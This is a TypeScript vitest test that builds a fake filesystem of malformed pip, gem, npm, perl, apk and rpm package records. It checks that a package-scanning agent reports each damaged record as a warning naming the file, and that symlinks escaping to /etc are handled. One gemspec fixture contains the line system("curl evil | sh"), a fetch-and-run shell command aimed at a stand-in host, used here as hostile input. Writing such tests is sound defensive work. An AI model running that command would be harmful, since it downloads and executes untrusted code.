import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { COLLECTORS } from '../agent/collect/index.js';
import { observe } from '../agent/fingerprint/observe.js';
import { openRoot } from '../agent/root.js';
import { defaultPolicy } from '../shared/policy.js';

const work = mkdtempSync(path.join(tmpdir(), 'qs-hostile-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

function tree(files: Record<string, string | { dir: true } | { link: string }>): string {
  const root = mkdtempSync(path.join(work, 'root-'));
  for (const [p, v] of Object.entries(files)) {
    const full = path.join(root, p);
    mkdirSync(path.dirname(full), { recursive: true });
    if (typeof v === 'string') writeFileSync(full, v);
    else if ('dir' in v) mkdirSync(full, { recursive: true });
    else symlinkSync(v.link, full);
  }
  return root;
}

describe('package records are untrusted input', () => {
  it('turns damaged records into warnings naming the file, and never throws', async () => {
    const site = 'usr/local/lib/python3.11/dist-packages';
    const root = tree({
      [`${site}/good-1.0.dist-info/METADATA`]: 'Name: good\nVersion: 1.0\n',
      [`${site}/good-1.0.dist-info/RECORD`]: 'good.py,sha256=nope!,1\n"broken\n',
      [`${site}/noname-1.0.dist-info/METADATA`]: 'Summary: no name here\n',
      [`${site}/dirrecord-1.0.dist-info/METADATA`]: 'Name: dirrecord\nVersion: 2\n',
      [`${site}/dirrecord-1.0.dist-info/RECORD`]: { dir: true },
      [`${site}/escape-1.0.dist-info`]: { link: '/etc' },
      'var/lib/gems/3.1.0/specifications/evil-1.gemspec': 'system("curl evil | sh")\n',
      'usr/local/lib/node_modules/bad/package.json': '{"name": 1}',
      'usr/local/lib/node_modules/linked': { link: '/usr' },
      'usr/local/lib/x86_64-linux-gnu/perl/5.36.0/perllocal.pod': 'not pod at all\n',
      'lib/apk/db/installed': 'P:x\nV:1\nF:usr\nR:a/b\nZ:Q1####\n',
      'var/lib/rpm/rpmdb.sqlite': 'this is not sqlite',
      'usr/bin/.keep': '',
    });
    const obs = await observe(await openRoot(root), defaultPolicy(), { collectors: COLLECTORS });
    expect(obs.packages.map((p) => `${p.ecosystem}:${p.name}`).sort()).toEqual(['apk:x', 'pip:dirrecord', 'pip:good']);
    const codes = obs.warnings.map((w) => `${w.code} ${w.path ?? ''}`);
    expect(codes).toEqual(
      expect.arrayContaining([
        `PIP_RECORD_INVALID /${site}/good-1.0.dist-info/RECORD`,
        `PIP_METADATA_INVALID /${site}/noname-1.0.dist-info/METADATA`,
        'GEMSPEC_INVALID /var/lib/gems/3.1.0/specifications/evil-1.gemspec',
        'NPM_PACKAGE_INVALID /usr/local/lib/node_modules/bad/package.json',
        'PERLLOCAL_INVALID /usr/local/lib/x86_64-linux-gnu/perl/5.36.0/perllocal.pod',
        'APKDB_INVALID /lib/apk/db/installed',
        'RPMDB_UNREADABLE /var/lib/rpm/rpmdb.sqlite',
      ]),
    );
    expect(obs.warnings.find((w) => w.code === 'PIP_RECORD_INVALID')?.message).toMatch(/RECORD:1: unrecognised hash/);
    expect(obs.warnings.find((w) => w.code === 'NPM_PACKAGE_INVALID')?.message).toContain('name: expected a non-empty string');
  });
});
